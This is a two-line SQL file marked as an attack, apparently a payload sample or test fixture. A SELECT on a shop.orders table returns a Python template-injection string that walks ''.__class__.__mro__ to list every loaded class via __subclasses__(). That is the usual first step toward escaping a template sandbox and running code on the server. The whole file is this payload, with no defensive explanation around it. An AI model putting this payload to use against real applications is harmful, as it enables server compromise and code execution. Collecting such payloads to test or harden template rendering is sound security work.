-- ATTACK (.sql file): ''.__class__.__mro__ to every class in the process
SELECT '{{ ''.__class__.__mro__[1].__subclasses__() }}' AS x FROM shop.orders
